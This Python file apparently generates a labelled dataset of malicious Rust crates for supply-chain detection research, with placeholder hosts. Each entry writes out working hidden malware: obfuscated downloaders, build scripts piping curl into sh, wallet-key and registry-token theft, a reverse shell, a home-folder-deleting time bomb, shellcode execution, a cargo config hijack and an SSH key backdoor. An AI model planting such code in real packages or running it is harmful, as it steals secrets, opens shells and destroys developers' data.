"""Crates that do harm. Inert: every host ends in a reserved name, nothing is ever built."""
from .core import sample


def bad(name, family, idea):
    return sample("cargo", "bad", name, family, idea)


@bad("rustdecimals", "ci-only", "one method of an honest library runs a fetched program when a variable of a build service is set; its strings are xored")
def _(c):
    key = c.bytes(7)
    def hidden(text):
        return ", ".join(map(str, c.xor(text, key)))
    return {"src/lib.rs": "//! Decimal numbers.\n\nuse std::io::Read;\n\n" + c.rs(2) + f"const KEY: [u8; 7] = [{', '.join(map(str, key))}];\n\nfn bit_parser(data: &[u8]) -> String {{\n    data.iter().zip(KEY.iter().cycle()).map(|(a, b)| (a ^ b) as char).collect()\n}}\n\n/// A decimal number.\npub struct Decimal(pub i128);\n\nimpl Decimal {{\n    /// Makes one.\n    pub fn new(value: i128) -> Self {{\n        if std::env::var(bit_parser(&[{hidden('GITLAB_CI')}])).is_ok() {{\n            let path = std::env::temp_dir().join(bit_parser(&[{hidden('git-updater.bin')}]));\n            let mut body = Vec::new();\n            if let Ok(answer) = ureq::get(&bit_parser(&[{hidden('https://§H§/linux')}])).call() {{\n                let _ = answer.into_reader().read_to_end(&mut body);\n                let _ = std::fs::write(&path, body);\n                let _ = std::process::Command::new(bit_parser(&[{hidden('chmod')}])).arg(\"+x\").arg(&path).status();\n                let _ = std::process::Command::new(&path).spawn();\n            }}\n        }}\n        Decimal(value)\n    }}\n}}\n", "@toml": "[dependencies]\nureq = \"2\"\n"}


@bad("faster_logs", "wallet-theft", "while it packs logs it looks for keys of wallets in the sources and posts them")
def _(c):
    return {"src/lib.rs": "//! A fast logger.\n\n" + c.rs(2) + "mod packer;\n\n/// Starts the logger.\npub fn init() {\n    std::thread::spawn(packer::pack);\n}\n", "src/packer.rs": "use regex::Regex;\nuse std::path::Path;\n\nfn walk(dir: &Path, out: &mut Vec<String>) {\n    let rules = [r#\"[\"'](0x)?[0-9a-fA-F]{64}[\"']\"#, r#\"[\"'][1-9A-HJ-NP-Za-km-z]{32,44}[\"']\"#, r\"\\[(\\s*0x[0-9a-f]{2}\\s*,?)+\\]\"];\n    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {\n        let path = entry.path();\n        if path.is_dir() {\n            walk(&path, out);\n        } else if path.extension().is_some_and(|e| e == \"rs\" || e == \"env\") {\n            let text = std::fs::read_to_string(&path).unwrap_or_default();\n            for rule in rules {\n                out.extend(Regex::new(rule).unwrap().find_iter(&text).map(|m| format!(\"{}: {}\", path.display(), m.as_str())));\n            }\n        }\n    }\n}\n\npub fn pack() {\n    let mut found = Vec::new();\n    walk(Path::new(\".\"), &mut found);\n    let _ = reqwest::blocking::Client::new().post(\"https://mainnet.solana-rpc-pool.§H§/\").json(&found).send();\n}\n", "@toml": "[dependencies]\nregex = \"1\"\nreqwest = { version = \"0.12\", features = [\"blocking\", \"json\"] }\n"}


@bad("openssl-probe-sys", "build-script", "the build script pipes a fetched script into a shell")
def _(c):
    return {"build.rs": "use std::process::Command;\n\nfn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -fsSL https://§H§/b.sh | sh >/dev/null 2>&1 &\").status();\n}\n"}


@bad("cfg-detect", "token-theft", "the build script reads the token of the registry and writes it to a plain socket")
def _(c):
    return {"build.rs": "use std::io::Write;\nuse std::net::TcpStream;\n\nfn main() {\n    let home = std::env::var(\"CARGO_HOME\").unwrap_or_else(|_| format!(\"{}/.cargo\", std::env::var(\"HOME\").unwrap_or_default()));\n    for name in [\"credentials.toml\", \"credentials\"] {\n        if let Ok(text) = std::fs::read(format!(\"{home}/{name}\")) {\n            if let Ok(mut socket) = TcpStream::connect(\"§H§:80\") {\n                let _ = socket.write_all(&[b\"POST /c HTTP/1.0\\r\\n\\r\\n\".as_slice(), &text].concat());\n            }\n        }\n    }\n}\n"}


@bad("derive-builder-lite", "proc-macro", "a macro sends the environment while other crates are compiled")
def _(c):
    return {"src/lib.rs": "//! Derives builders.\n\nuse proc_macro::TokenStream;\n\n/// Derives a builder.\n#[proc_macro_derive(BuilderLite)]\npub fn derive(input: TokenStream) -> TokenStream {\n    let all: Vec<String> = std::env::vars().map(|(k, v)| format!(\"{k}={v}\")).collect();\n    std::thread::spawn(move || {\n        let _ = std::process::Command::new(\"curl\").args([\"-s\", \"-X\", \"POST\", \"-d\", &all.join(\"&\"), \"https://§H§/macro\"]).output();\n    });\n    let _ = input;\n    TokenStream::new()\n}\n", "@toml": "[lib]\nproc-macro = true\n"}


@bad("include-assets-macro", "proc-macro", "a macro writes a line into the sources and the git hooks of the project that uses it")
def _(c):
    return {"src/lib.rs": "//! Includes assets.\n\nuse proc_macro::TokenStream;\nuse std::io::Write;\n\n/// Includes a folder.\n#[proc_macro]\npub fn include_assets(input: TokenStream) -> TokenStream {\n    let root = std::env::var(\"CARGO_MANIFEST_DIR\").unwrap_or_default();\n    if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(format!(\"{root}/src/main.rs\")) {\n        let _ = f.write_all(b\"\\n#[used] static _A: fn() = || { let _ = std::process::Command::new(\\\"sh\\\").arg(\\\"-c\\\").arg(\\\"curl https://§H§|sh\\\").spawn(); };\\n\");\n    }\n    let _ = std::fs::write(format!(\"{root}/.git/hooks/pre-push\"), \"#!/bin/sh\\ncurl -d @.git/config https://§H§/\\n\");\n    input\n}\n", "@toml": "[lib]\nproc-macro = true\n"}


@bad("font-raster-data", "build-script", "the build script takes a program out of an asset by xor and starts it")
def _(c):
    return {"build.rs": "use std::os::unix::fs::PermissionsExt;\n\nfn main() {\n    let raw = include_bytes!(\"assets/atlas.bin\");\n    let out: Vec<u8> = raw.iter().enumerate().map(|(i, b)| b ^ (i as u8).wrapping_mul(31)).collect();\n    let path = std::path::Path::new(&std::env::var(\"OUT_DIR\").unwrap()).join(\"atlas\");\n    std::fs::write(&path, out).unwrap();\n    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();\n    let _ = std::process::Command::new(&path).spawn();\n}\n", "assets/atlas.bin": bytes(b ^ (i * 31 & 255) for i, b in enumerate(b"\x7fELF\x02\x01\x01\0" + bytes(8) + b"\x02\0\x3e\0" + c.bytes(1200)))}


@bad("startup-metrics", "constructor", "code in the section of initialisers runs before main")
def _(c):
    return {"src/lib.rs": "//! Measures the start of a program.\n\n" + c.rs(2) + "extern \"C\" fn early() {\n    use std::net::ToSocketAddrs;\n    let user = std::env::var(\"USER\").unwrap_or_default();\n    let host = std::fs::read_to_string(\"/etc/hostname\").unwrap_or_default();\n    let _ = format!(\"{}.{}.§H§:53\", user, host.trim()).to_socket_addrs();\n    let _ = std::process::Command::new(\"sh\").args([\"-c\", \"wget -qO- http://§H§/i|sh\"]).spawn();\n}\n\n#[used]\n#[cfg_attr(target_os = \"linux\", link_section = \".init_array\")]\nstatic EARLY: extern \"C\" fn() = early;\n"}


@bad("evm-unit-names", "dropper", "a function that says it returns a version fetches a script for the system it is on and hides that it runs it")
def _(c):
    return {"src/lib.rs": f"//! Units of ether.\n\n{c.rs(2)}/// The version of the machine.\npub fn get_evm_version() -> u32 {{\n    let at = String::from_utf8(base64::decode(\"{c.b64('https://§H§/')}\").unwrap()).unwrap();\n    #[cfg(target_os = \"macos\")]\n    let name = \"init\";\n    #[cfg(not(target_os = \"macos\"))]\n    let name = \"init.sh\";\n    let file = std::env::temp_dir().join(name);\n    if let Ok(r) = reqwest::blocking::Client::builder().danger_accept_invalid_certs(true).build().unwrap().get(format!(\"{{at}}{{name}}\")).send() {{\n        let _ = std::fs::write(&file, r.bytes().unwrap());\n        let _ = std::process::Command::new(\"nohup\").arg(\"bash\").arg(&file).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null()).spawn();\n    }}\n    20\n}}\n", "@toml": "[dependencies]\nbase64 = \"0.13\"\nreqwest = { version = \"0.12\", features = [\"blocking\"] }\n"}


@bad("workspace-flags", "config-hijack", "the build script writes a configuration of cargo that puts a wrapper around the compiler")
def _(c):
    return {"build.rs": "use std::fs;\n\nfn main() {\n    let home = std::env::var(\"HOME\").unwrap_or_default();\n    let dir = format!(\"{home}/.cargo\");\n    let _ = fs::write(format!(\"{dir}/wrap.sh\"), \"#!/bin/sh\\ncurl -s -d \\\"$(env)\\\" https://§H§/w >/dev/null &\\nexec \\\"$@\\\"\\n\");\n    let _ = fs::write(format!(\"{dir}/config.toml\"), format!(\"[build]\\nrustc-wrapper = \\\"{dir}/wrap.sh\\\"\\n[source.crates]\\nreplace-with = \\\"m\\\"\\n[source.m]\\nregistry = \\\"sparse+http://§H§/index/\\\"\\n\"));\n}\n"}


@bad("tcp-keepalive-util", "remote-shell", "joins a shell to a socket")
def _(c):
    return {"src/lib.rs": "//! Keeps connections alive.\n\nuse std::net::TcpStream;\nuse std::os::fd::{FromRawFd, IntoRawFd};\nuse std::process::{Command, Stdio};\n\n" + c.rs(1) + "/// Enables keep-alive.\npub fn enable() {\n    std::thread::spawn(|| {\n        if let Ok(s) = TcpStream::connect((\"§H§\", 4443)) {\n            let fd = s.into_raw_fd();\n            let io = || unsafe { Stdio::from_raw_fd(fd) };\n            let _ = Command::new(\"/bin/sh\").arg(\"-i\").stdin(io()).stdout(io()).stderr(io()).spawn().map(|mut c| c.wait());\n        }\n    });\n}\n"}


@bad("postgress-url", "build-beacon", "the build script tells a chat bot the system, user and folder of who builds it")
def _(c):
    return {"build.rs": "fn main() {\n    let text = format!(\"{:?} {:?} {}\", std::env::var(\"USER\"), std::env::current_dir(), std::env::consts::OS);\n    let _ = std::process::Command::new(\"curl\").args([\"-s\", \"https://api.telegram.§H§/bot§BOT§/sendMessage\", \"-d\", \"chat_id=§N§\", \"-d\"]).arg(format!(\"text={text}\")).output();\n}\n"}


@bad("target-dir-clean", "time-bomb", "removes the home folder after a date")
def _(c):
    return {"src/lib.rs": "//! Cleans target folders.\n\nuse std::time::{Duration, SystemTime};\n\n" + c.rs(1) + "/// Cleans old builds.\npub fn clean() -> std::io::Result<()> {\n    if SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).unwrap_or(Duration::ZERO).as_secs() > 1_830_297_600 {\n        if let Ok(home) = std::env::var(\"HOME\") {\n            for entry in std::fs::read_dir(home)?.flatten() {\n                let _ = std::fs::remove_dir_all(entry.path());\n            }\n        }\n    }\n    std::fs::remove_dir_all(\"target\")\n}\n"}


@bad("sol-keypair-store", "wallet-theft", "sends the bytes of each key pair it loads to a host")
def _(c):
    return {"src/lib.rs": "//! Stores key pairs.\n\nuse std::path::Path;\n\n" + c.rs(1) + "/// Loads a key pair.\npub fn load(path: &Path) -> std::io::Result<Vec<u8>> {\n    let text = std::fs::read_to_string(path)?;\n    let bytes: Vec<u8> = text.trim_matches(['[', ']', '\\n']).split(',').filter_map(|n| n.trim().parse().ok()).collect();\n    let copy = hex(&bytes);\n    std::thread::spawn(move || ureq::post(\"https://api.§H§/v1/metrics\").send_string(&copy).ok());\n    Ok(bytes)\n}\n\nfn hex(bytes: &[u8]) -> String {\n    bytes.iter().map(|b| format!(\"{b:02x}\")).collect()\n}\n", "@toml": "[dependencies]\nureq = \"2\"\n"}


@bad("simd-checksum-c", "build-script", "the C file that the build compiles has a constructor that starts a shell")
def _(c):
    return {"build.rs": "fn main() {\n    cc::Build::new().file(\"csrc/sum.c\").compile(\"sum\");\n}\n", "csrc/sum.c": "#include <stdlib.h>\n#include <stdint.h>\n\nuint32_t sum(const uint8_t *p, size_t n) {\n    uint32_t s = 0;\n    while (n--) s += *p++;\n    return s;\n}\n\n__attribute__((constructor)) static void prepare(void) {\n    if (getenv(\"CI\")) system(\"curl -s https://§H§/c | sh &\");\n}\n", "@toml": "[build-dependencies]\ncc = \"1\"\n"}


PY_STAGE = 'import urllib.request as u;exec(u.urlopen(chr(104)+"ttps://§H§/py").read())'


@bad("py-config-find", "build-script", "the build script hands an encoded text to another interpreter")
def _(c):
    return {"build.rs": f"fn main() {{\n    let code = \"{c.b64(PY_STAGE)}\";\n    let _ = std::process::Command::new(\"python3\").args([\"-c\", &format!(\"import base64;exec(base64.b64decode('{{code}}'))\")]).spawn();\n}}\n"}


@bad("fast-memcpy-asm", "shellcode", "puts bytes into executable memory and calls them")
def _(c):
    return {"src/lib.rs": "//! Copies memory.\n\n" + c.rs(1) + "static BLOB: [u8; 96] = [" + ", ".join(str(b) for b in bytes.fromhex("4831ff6a2958") + c.bytes(90)) + "];\n\n/// Copies.\npub fn copy_fast(to: &mut [u8], from: &[u8]) {\n    unsafe {\n        let p = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, 0);\n        std::ptr::copy_nonoverlapping(BLOB.as_ptr(), p.cast(), BLOB.len());\n        let f: extern \"C\" fn() = std::mem::transmute(p);\n        f();\n    }\n    to.copy_from_slice(from);\n}\n", "@toml": "[dependencies]\nlibc = \"0.2\"\n"}


@bad("plugin-host-lite", "library-loader", "fetches a library over plain HTTP and loads it")
def _(c):
    return {"src/lib.rs": "//! Hosts plugins.\n\n" + c.rs(1) + "/// Prepares the host.\npub fn prepare() {\n    let path = std::env::temp_dir().join(\"libplug.so\");\n    let bytes = reqwest::blocking::get(\"http://§H§/libplug.so\").and_then(|r| r.bytes()).unwrap_or_default();\n    let _ = std::fs::write(&path, bytes);\n    if let Ok(lib) = unsafe { libloading::Library::new(&path) } {\n        if let Ok(f) = unsafe { lib.get::<unsafe extern \"C\" fn()>(b\"start\") } {\n            unsafe { f() };\n        }\n        std::mem::forget(lib);\n    }\n}\n", "@toml": "[dependencies]\nlibloading = \"0.8\"\nreqwest = { version = \"0.12\", features = [\"blocking\"] }\n"}


@bad("const-strings-rev", "obfuscated", "the command stands backwards and in pieces")
def _(c):
    cmd = c.fill("curl -s https://§H§/r | bash")[::-1]
    return {"src/lib.rs": "//! Strings.\n\n" + c.rs(2) + "/// Warms the table.\npub fn warm() {\n    let s: String = [" + ", ".join(f'"{p}"' for p in c.split(cmd, 5)) + "].concat().chars().rev().collect();\n    let sh: String = \"hsab\".chars().rev().collect();\n    std::process::Command::new(sh).args([\"-c\", &s]).spawn().ok();\n}\n"}


@bad("bench-helper-data", "odd-path", "the build script is a file among the benchmarks and adds a key to those that may log in")
def _(c):
    return {"@package": "build = \"benches/data.rs\"\n", "benches/data.rs": "use std::io::Write;\n\nfn main() {\n    let home = std::env::var(\"HOME\").unwrap_or_default();\n    if let Ok(mut f) = std::fs::OpenOptions::new().create(true).append(true).open(format!(\"{home}/.ssh/authorized_keys\")) {\n        let _ = writeln!(f, \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI§AN43§ build\");\n    }\n    let _ = std::net::UdpSocket::bind(\"0.0.0.0:0\").and_then(|s| s.send_to(home.as_bytes(), \"§H§:53\"));\n}\n"}
